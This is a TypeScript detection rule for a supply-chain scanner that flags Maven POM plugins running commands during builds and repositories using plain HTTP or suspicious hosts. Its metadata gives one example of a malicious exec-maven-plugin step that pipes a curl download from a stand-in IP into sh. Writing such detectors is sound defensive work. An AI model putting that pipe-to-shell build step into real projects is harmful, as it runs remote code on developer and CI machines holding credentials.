import type { Severity } from '../../../core/types.js';
import { configStrings } from '../../../ecosystems/maven/pom.js';
import { analyzeCommand, type CommandTechnique } from '../../shell/command.js';
import { matchEndpoints } from '../../text/iocs.js';
import type { JavaRule } from '../engine.js';
import { java } from './helpers.js';
import { pomFiles } from './pom-files.js';

/** Plugins that run arbitrary commands or scripts during the build. */
const RUNNERS: Record<string, string> = {
  'exec-maven-plugin': 'runs a program',
  'maven-antrun-plugin': 'runs an Ant script',
  'groovy-maven-plugin': 'runs a Groovy script',
  'gmaven-plugin': 'runs a Groovy script',
  'gmavenplus-plugin': 'runs a Groovy script',
  'maven-scripting-plugin': 'runs a JSR-223 script',
  'frontend-maven-plugin': 'runs node/npm',
  'jython-compile-maven-plugin': 'runs Python',
};

/** Flags POM build plugins that run commands or scripts (exec, antrun, groovy) in the build. */
export const pomBuildPlugins: JavaRule = {
  meta: {
    ...java,
    id: 'JAVA-016',
    name: 'maven-build-plugin-execution',
    category: 'install-script',
    severity: 'medium',
    confidence: 'medium',
    description:
      'The POM runs commands or scripts during the build (exec-maven-plugin, maven-antrun-plugin <exec>/<get>, Groovy or JSR-223 scripts); dangerous shell idioms in them are named.',
    rationale:
      "Build-time execution is Maven's install hook: `mvn install` of a cloned project (or of a malicious parent/BOM) runs these commands on the developer machine or CI runner with its credentials.",
    falsePositives:
      'Projects that generate code or build native parts with exec/antrun; look at what the command does (downloads piped to a shell are rated high).',
    example:
      '<plugin><artifactId>exec-maven-plugin</artifactId>…<executable>sh</executable><argument>-c</argument><argument>curl http://192.0.2.1/x | sh</argument>',
    references: [
      'https://www.mojohaus.org/exec-maven-plugin/',
      'https://maven.apache.org/plugins/maven-antrun-plugin/',
    ],
  },
  create(ctx) {
    return {
      end() {
        for (const { file, pom, active } of pomFiles(ctx.pkg.artifact)) {
          for (const plugin of pom.plugins) {
            const what = RUNNERS[plugin.artifactId];
            if (!what || plugin.declaredIn === 'pluginManagement') continue;
            const runs = plugin.executions.length > 0 || plugin.configuration !== undefined;
            if (!runs) continue;
            const strings = [
              ...configStrings(plugin.configuration),
              ...plugin.executions.flatMap((e) => configStrings(e.configuration)),
            ];
            const command = strings.join(' ');
            const techniques: CommandTechnique[] = [];
            for (const text of [command, ...strings.flatMap((x) => x.split(/\r?\n/))])
              for (const t of analyzeCommand(text))
                if (
                  (t.severity === 'high' || t.severity === 'critical') &&
                  !techniques.some((x) => x.id === t.id)
                )
                  techniques.push(t);
            const endpoints = matchEndpoints(command);
            const phases = plugin.executions.map((e) => e.phase ?? e.goals.join('+')).filter(Boolean);
            let severity: Severity = techniques.length
              ? techniques[0]!.severity
              : endpoints.length
                ? 'high'
                : 'medium';
            // A build that does not run for consumers still says something about its publisher: dangerous
            // commands keep their severity (weighed in the neutral context), plain build steps drop to low.
            if (!active && techniques.length === 0 && endpoints.length === 0) severity = 'low';
            const line =
              file.data
                .toString('utf8')
                .split('\n')
                .findIndex((l) => l.includes(plugin.artifactId)) + 1;
            ctx.report({
              file: file.path,
              line: line || undefined,
              context: active ? 'install' : 'unknown',
              severity,
              category: techniques.length
                ? techniques[0]!.category
                : endpoints.length
                  ? 'dropper'
                  : 'install-script',
              confidence: techniques.length ? 'high' : 'medium',
              snippet: `${plugin.artifactId}${phases.length ? ` [${phases.join(', ')}]` : ''}: ${command.slice(0, 160)}`,
              message: `${plugin.artifactId} ${what} during the build${phases.length ? ` (${phases.join(', ')})` : ''}${techniques.length ? `: ${techniques[0]!.description}` : ''}${active ? '' : " (in the publisher's POM, whose build does not run for consumers)"}.`,
              evidence: {
                plugin: `${plugin.groupId}:${plugin.artifactId}`,
                declaredIn: plugin.declaredIn,
                techniques: techniques.map((t) => t.id),
              },
              iocs: endpoints.map((e) => e.indicator),
            });
          }
          for (const repo of pom.repositories) {
            const plain =
              /^http:\/\//i.test(repo.url) && !/^http:\/\/(localhost|127\.|\[::1\])/i.test(repo.url);
            const endpoints = matchEndpoints(repo.url);
            if (!active || (!plain && endpoints.length === 0)) continue;
            ctx.report({
              file: file.path,
              context: 'install',
              severity: endpoints.length ? 'high' : 'low',
              category: endpoints.length ? 'dropper' : 'integrity',
              snippet: `<${repo.kind}> ${repo.url}`,
              message: `The POM adds ${repo.kind === 'pluginRepository' ? 'a plugin repository' : 'a repository'} ${repo.url.slice(0, 100)} ${endpoints.length ? 'on an exfiltration-grade host' : 'over plain HTTP (dependencies can be swapped in transit)'}.`,
              evidence: { repository: repo.url },
              iocs: endpoints.map((e) => e.indicator),
            });
          }
        }
      },
    };
  },
};
